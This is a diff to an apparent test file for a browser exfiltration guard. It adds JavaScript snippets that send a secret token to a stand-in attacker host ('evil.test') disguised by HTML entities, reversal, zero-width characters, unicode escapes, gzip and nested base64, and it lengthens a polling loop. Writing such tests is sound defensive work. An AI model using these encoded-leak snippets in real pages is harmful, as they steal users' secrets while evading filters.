@@ -45,6 +45,21 @@ ROUTES = {
     "multipart": "{const f = new FormData(); f.append('d', v); "
     "fetch(`${base}/${tag}/multipart`, {method: 'POST', mode: 'no-cors', body: f});}",
     "beacon": "navigator.sendBeacon(`${base}/${tag}/beacon`, hex(v.toUpperCase()))",
+    # decoded views (issue 24): entities, reversal, separators, escapes, compression, nesting
+    "entities": "fetch(`${base}/${tag}/entities`, {method: 'POST', mode: 'no-cors', "
+    "body: Array.from(v, c => `&#${c.charCodeAt(0)};`).join('')})",
+    "reversed": "img(`/${tag}/reversed?q=${[...v].reverse().join('')}`)",
+    "dashed": "img(`/${tag}/dashed?q=${[...v].join('-')}`)",
+    "zerowidth": "fetch(`${base}/${tag}/zerowidth`, "
+    "{method: 'POST', mode: 'no-cors', body: [...v].join('\u200b')})",
+    "escaped": "img(`/${tag}/escaped?q=${encodeURIComponent(Array.from(v, c => "
+    "'\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join(''))}`)",
+    "gzip": "new Response(new Blob([JSON.stringify({t: v})]).stream().pipeThrough("
+    "new CompressionStream('gzip'))).arrayBuffer().then(b => "
+    "fetch(`${base}/${tag}/gzip`, {method: 'POST', mode: 'no-cors', body: b}))",
+    "nested": "img(`/${tag}/nested?q=${btoa(hex([...v].reverse().join('')))}`)",
+    "blob": "fetch(`${base}/${tag}/blob`, {method: 'POST', mode: 'no-cors', "
+    "body: btoa(JSON.stringify({session: 'x'.repeat(41), value: v, n: 7}))})",
 }
 #: several requests that carry the value in pieces: the one that completes it is refused
 SPLIT = (
@@ -103,7 +118,7 @@ async def test_encoded_and_split_leaks_stopped_benign_twins_pass(
         await page.fill("#token", SECRET)
         await page.click("#send")
         expected = {f"/b/{name}" for name in [*ROUTES, "split1", "split2", "split3"]}
-        for _ in range(100):
+        for _ in range(300):  # up to 30 s on a loaded machine; usually ~1 s
             seen = {r.path for r in netsite.requests_to("evil.test")}
             if expected <= seen and "b:done" in ws_server.messages:
                 break
